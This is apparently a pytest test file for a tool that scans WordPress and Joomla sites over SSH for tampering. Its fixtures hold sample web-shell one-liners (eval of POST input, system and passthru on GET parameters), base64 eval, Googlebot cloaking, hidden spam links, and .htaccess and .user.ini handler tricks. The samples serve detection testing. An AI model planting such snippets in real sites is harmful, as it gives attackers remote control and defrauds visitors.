"""A site's files, over a real SSH server, read-only."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from runner.actions.integrity.checksums import parse_checksums
from runner.actions.integrity.code import check_code, check_entry, check_server_rules, check_upload
from runner.actions.website_integrity import ACTION
from runner.connections import open_connections
from runner.contract import Connection, Outcome
from runner.errors import Failed
from tests.actions.integrity_sites import site, visitor_server
from tests.calls import make_call
from tests.sshd import ssh_server
from tests.wordpress_lab import INSTALL, PACKAGE

INDEX = """<?php
/** Front to the WordPress application. */
define( 'WP_USE_THEMES', true );

/** Loads the WordPress Environment and Template */
require __DIR__ . '/wp-blog-header.php';
"""
CLOAK = """if (strpos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') !== false) { include 'lama.txt'; exit; }
"""
HIDDEN = '<div style="display:none"><a href="https://kebun.example/">slot gacor</a></div>'
FILES = {
    "index.php": INDEX,
    "wp-blog-header.php": "<?php\nif ( ! isset( $wp_did_header ) ) { require_once __DIR__ . '/wp-load.php'; }\n",
    "wp-config.php": "<?php\ndefine( 'DB_NAME', 'situs' );\n",
    "wp-includes/version.php": "<?php\n$wp_version = '6.4.2';\n",
    "wp-includes/plugin.php": "<?php\nfunction add_filter() {}\n",
    "wp-admin/index.php": "<?php\n// admin\n",
    "wp-content/uploads/index.php": "<?php\n// Silence is golden.\n",
    "wp-content/uploads/2026/11/foto.jpg": "\xff\xd8 foto",
    "wp-content/themes/kop/functions.php": "<?php\nadd_action('init', 'kop');\n",
    ".htaccess": """# BEGIN WordPress
RewriteEngine On
RewriteCond %{HTTP_USER_AGENT} (ahrefs|semrush|mj12)bot [NC]
RewriteRule .* - [F,L]
RewriteCond %{HTTP_REFERER} !^https?://(www\\.)?pn-contoh\\.example [NC]
RewriteCond %{HTTP_REFERER} !google [NC]
RewriteRule \\.(jpg|png)$ - [F]
RewriteRule ^index\\.php$ - [L]
AddType application/x-httpd-php .php .phtml
# END WordPress
""",
}


class Web(NamedTuple):
    """A court's website, whose pages are well, and the connection to its server."""

    url: str
    connection: Connection


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    with (
        ssh_server(tmp_path_factory.mktemp("sshd") / "web1") as running,
        closing(open_connections(known_hosts=[running.known_hosts])) as connections,
        visitor_server(site()) as url,
    ):
        yield Web(url, connections.get(running))


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A WordPress site as it should be."""
    folder = tmp_path / "html"
    for name, text in FILES.items():
        put(folder, name, text)
    return folder


def put(folder: Path, name: str, text: str) -> None:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode("utf-8"))


def checksums(root: Path, folder: Path) -> str:
    core = [name for name in FILES if not name.startswith(("wp-content", "wp-config", "."))]
    sums = {name: hashlib.md5((root / name).read_bytes()).hexdigest() for name in core}
    (folder / "sums.json").write_text(json.dumps({"checksums": sums}))
    return str(folder / "sums.json")


def look(tmp_path: Path, server: Web, root: Path, **inputs: Any) -> Outcome:
    target = {"name": "pn", "kind": "website", "url": server.url, "root": str(root), "server": "web1"}
    given = {"sample": 0, **inputs}
    call = make_call(ACTION, given, directory=tmp_path, target=target, connect=lambda: server.connection, limit=60)
    return ACTION.run(call)


def test_a_site_as_it_should_be_is_clean(tmp_path: Path, server: Web, root: Path) -> None:
    before = {path: path.stat().st_mtime_ns for path in root.rglob("*")}
    outputs = look(tmp_path, server, root, checksums=checksums(root, tmp_path)).outputs
    assert (outputs["verdict"], outputs["findings"]) == ("clean", [])
    assert outputs["files"] == {
        "looked": True, "cms": "wordpress", "version": "6.4.2", "core": "whole", "checked": 5,
    }  # fmt: skip
    assert {path: path.stat().st_mtime_ns for path in root.rglob("*")} == before


def test_without_checksums_the_core_cannot_be_determined(tmp_path: Path, server: Web, root: Path) -> None:
    outputs = look(tmp_path, server, root).outputs
    assert (outputs["verdict"], outputs["files"]["core"]) == ("unknown", "unknown")
    assert "tidak ada daftar ceksum" in outputs["unseen"][0]


def change(name: str, text: str) -> Callable[[Path], None]:
    return lambda root: put(root, name, text)


@pytest.mark.parametrize(
    ("tamper", "rules", "verdict"),
    [
        (change("wp-includes/plugin.php", "<?php\nfunction add_filter() { return 1; }\n"), {"core_changed"}, "review"),
        (change("wp-includes/class-wp-tmp.php", "<?php\n"), {"core_extra"}, "review"),
        (change("lama.php", "<?php\n"), {"core_extra"}, "review"),
        (
            change("wp-admin/x.php", "<?php eval($_POST[1]);"), {"core_extra", "encoded_code"}, "indicated",
        ),
        (lambda root: (root / "wp-admin/index.php").unlink(), {"core_missing"}, "review"),
        (change("wp-content/uploads/2026/x.php", "<?php echo 1;"), {"upload_code"}, "indicated"),
        (change("wp-content/uploads/2026/a b'\n.PHTML", "<?php echo 1;"), {"upload_code"}, "indicated"),
        (change("wp-content/uploads/x.jpg", "\xff <?php eval(base64_decode('eA=='));"), {"upload_code"}, "indicated"),
        (change("cache/x.php", "<?php die('Access Denied'); ?>#x#a:1:{}"), set(), "clean"),
        (change("cache/y.php", "<?php echo 1;"), {"upload_code"}, "review"),
        (change("index.php", INDEX.replace("<?php", "<?php\n" + CLOAK, 1)), {"agent_code", "entry_code"}, "indicated"),
        (change("wp-content/themes/kop/functions.php", "<?php\n" + CLOAK), {"agent_code"}, "indicated"),
        (
            change("wp-content/themes/kop/footer.php", HIDDEN),
            {"hidden_links"}, "indicated",
        ),
        (
            change(".htaccess", "RewriteCond %{HTTP_USER_AGENT} (google|bing) [NC]\nRewriteRule ^ /lama.php [L]\n"),
            {"server_rule"}, "indicated",
        ),
        (
            change("images/.htaccess", "AddHandler application/x-httpd-php .jpg\n"), {"server_handler"}, "indicated",
        ),
        (change(".user.ini", "auto_prepend_file = /tmp/x.jpg\n"), {"server_handler"}, "indicated"),
    ],
)  # fmt: skip
def test_what_was_changed_is_named(
    tmp_path: Path, server: Web, root: Path, tamper: Callable[[Path], None], rules: set[str], verdict: str
) -> None:
    sums = checksums(root, tmp_path)
    tamper(root)
    outputs = look(tmp_path, server, root, checksums=sums).outputs
    assert set(outputs["rules"]) - {"core_changed"} == rules - {"core_changed"}
    assert rules <= set(outputs["rules"])
    assert outputs["verdict"] == verdict


def test_checksums_of_another_version_say_nothing(tmp_path: Path, server: Web, root: Path) -> None:
    other = {f"wp-includes/{n}.php": "0" * 32 for n in range(40)}
    (tmp_path / "other.json").write_text(json.dumps({"checksums": other}))
    outputs = look(tmp_path, server, root, checksums=str(tmp_path / "other.json")).outputs
    assert outputs["verdict"] == "unknown"
    assert "ceksum versi lain" in outputs["unseen"][0]


def test_a_root_that_is_not_there_is_unseen(tmp_path: Path, server: Web) -> None:
    outputs = look(tmp_path, server, tmp_path / "none").outputs
    assert (outputs["verdict"], outputs["files"]) == ("unknown", {"looked": False})


def test_an_unreachable_server_is_unseen_and_the_pages_are_judged(tmp_path: Path, root: Path) -> None:
    class Gone:
        name = "gone"
        settings = {"address": "127.0.0.1", "port": 1, "user": "x"}  # noqa: RUF012  # never written to

    with closing(open_connections(known_hosts=[])) as connections, visitor_server(site()) as url:
        target = {"name": "pn", "kind": "website", "url": url, "root": str(root), "server": "gone"}
        connect = lambda: connections.get(Gone())  # noqa: E731  # one connection, one call
        call = make_call(ACTION, {"sample": 0}, directory=tmp_path, target=target, connect=connect, limit=60)
        outputs = ACTION.run(call).outputs
    assert outputs["verdict"] == "unknown"
    assert outputs["pages"] != []


def test_joomla_s_manifest_names_what_lies_at_the_root(tmp_path: Path, server: Web) -> None:
    folder = tmp_path / "joomla"
    listed = "<extension><version>5.2.0</version><fileset><files><file>index.php</file></files></fileset></extension>"
    put(folder, "administrator/manifests/files/joomla.xml", listed)
    put(folder, "index.php", JOOMLA)
    put(folder, "configuration.php", "<?php\nclass JConfig {}\n")
    assert look(tmp_path, server, folder).outputs["verdict"] == "unknown"
    put(folder, "lama.php", "<?php\n")
    outputs = look(tmp_path, server, folder).outputs
    assert (outputs["verdict"], [each["place"] for each in outputs["findings"]]) == ("review", ["lama.php"])
    assert (outputs["files"]["cms"], outputs["files"]["version"]) == ("joomla", "5.2.0")


@pytest.mark.parametrize(
    "text", ["", "{}", "no sums", '{"checksums": false}', '{"checksums": {"a": "12"}}', "[" * 9999]
)
def test_what_holds_no_checksums_is_refused(text: str) -> None:
    with pytest.raises(Failed, match="holds no checksums"):
        parse_checksums(text, "sums.json")


def test_lines_of_sha256sum_are_checksums() -> None:
    line = f"{'a' * 64}  ./libraries/src/Version.php\n"
    assert parse_checksums(line, "x").sums == {"libraries/src/Version.php": "a" * 64}
    assert parse_checksums(line, "x").program == "sha256sum"


JOOMLA = """<?php
/** @package Joomla.Site */
define('JOOMLA_MINIMUM_PHP', '8.1.0');
if (version_compare(PHP_VERSION, JOOMLA_MINIMUM_PHP, '<')) {
    die(str_replace('{{v}}', JOOMLA_MINIMUM_PHP, file_get_contents(__DIR__ . '/includes/incompatible.html')));
}
// Saves the start time and memory usage.
$startTime = microtime(1);
define('_JEXEC', 1);
require_once __DIR__ . '/includes/app.php';
"""


HONEST = [
    INDEX,
    JOOMLA,
    "<h1>halo</h1>",
    "<?php\n// Googlebot HTTP_USER_AGENT echo\necho 1;",
    "<?php defined('_JEXEC') or die; class A { function b() { return strpos($this->HTTP_USER_AGENT, 'googlebot'); } }",
    "<?php class Twig { function load($that) { eval('?>'.$this->compile($that)); } }",
    "<?php $x = chr(7); return $x . 'eval()\\'d code';",
    "<?php set_time_limit(0); $_POST['a']; move_uploaded_file($_FILES['f']['tmp_name'], 'unggahan/a.pdf');",
]


@pytest.mark.parametrize("code", HONEST)
def test_honest_code_is_no_finding(code: str) -> None:
    assert [*check_code("index.php", code), *check_entry("index.php", code)] == []


@pytest.mark.parametrize(
    "code",
    [
        "<?php eval(base64_decode('eA==')); ?>",
        "<?php $f = $_POST['f']; $f($_POST['a']); assert($_REQUEST['x']);",
        "<?php /* a */ echo file_get_contents('https://kebun.example/isi');\n" + INDEX[6:],
        INDEX + "\nsystem($_GET['c']);",
        "<?php $c = $_POST['c']; chdir($_POST['d']); error_reporting(0); echo shell_exec($c), php_uname();",
        "<?php $c = $_GET['c']; @set_time_limit(0); passthru($c);",
        JOOMLA.replace("define('_JEXEC'", "include 'lama.php';\ndefine('_JEXEC'"),
        "<?php if (preg_match('/google\\./i', $_SERVER['HTTP_REFERER'])) { header('Location: https://k.example'); }",
    ],
)
def test_planted_code_is_a_finding(code: str) -> None:
    assert [*check_code("index.php", code), *check_entry("index.php", code)] != []


@pytest.mark.parametrize(
    "code", ["", "<?php", "<?php // x", "<?php\ndefined('_JEXEC') or die;", "<?php die('no');?>#x#"]
)
def test_php_that_does_nothing_may_lie_anywhere(code: str) -> None:
    assert list(check_upload("images/index.php", code, soft=False)) == []


def test_a_phone_s_own_site_is_no_cloak() -> None:
    rule = "RewriteCond %{HTTP_USER_AGENT} android [NC]\nRewriteRule ^ https://m.pn-contoh.example/ [R,L]\n"
    assert list(check_server_rules(".htaccess", rule, "pn-contoh.example")) == []
    away = rule.replace("m.pn-contoh.example", "kebun.example")
    assert [each.line for each in check_server_rules(".htaccess", away, "pn-contoh.example")] == [2]


@pytest.mark.heavy
def test_a_real_wordpress_alarms_nobody(tmp_path: Path, server: Web) -> None:
    assert PACKAGE.is_dir(), f"WordPress is needed for this test: {INSTALL}"
    sums = {}
    for path in PACKAGE.rglob("*.php"):
        if path.is_file() and not path.is_symlink():
            name, text = str(path.relative_to(PACKAGE)), path.read_text("utf-8", "replace")
            entry = check_entry(name, text) if path.name == "index.php" else ()
            assert [*check_code(name, text), *entry] == [], name
            sums[name] = hashlib.md5(path.read_bytes()).hexdigest()
    assert len(sums) > 800
    core = {name: digest for name, digest in sums.items() if not name.startswith(("wp-content", "wp-config"))}
    (tmp_path / "sums.json").write_text(json.dumps({"checksums": core}))
    outputs = look(tmp_path, server, PACKAGE, checksums=str(tmp_path / "sums.json")).outputs
    assert (outputs["files"]["cms"], outputs["files"]["core"]) == ("wordpress", "whole")
    assert outputs["findings"] == []


def test_long_code_is_read_in_time() -> None:
    for code in ("'" * 65536, "/*" * 32768, "eval( " * 10000, "$a(" * 20000, "RewriteCond " * 5000, "\\x41\\x" * 9000):
        list(check_code("a.php", code)), list(check_entry("index.php", code))
        list(check_upload("a.php", code, soft=False)), list(check_server_rules(".htaccess", code, "x"))
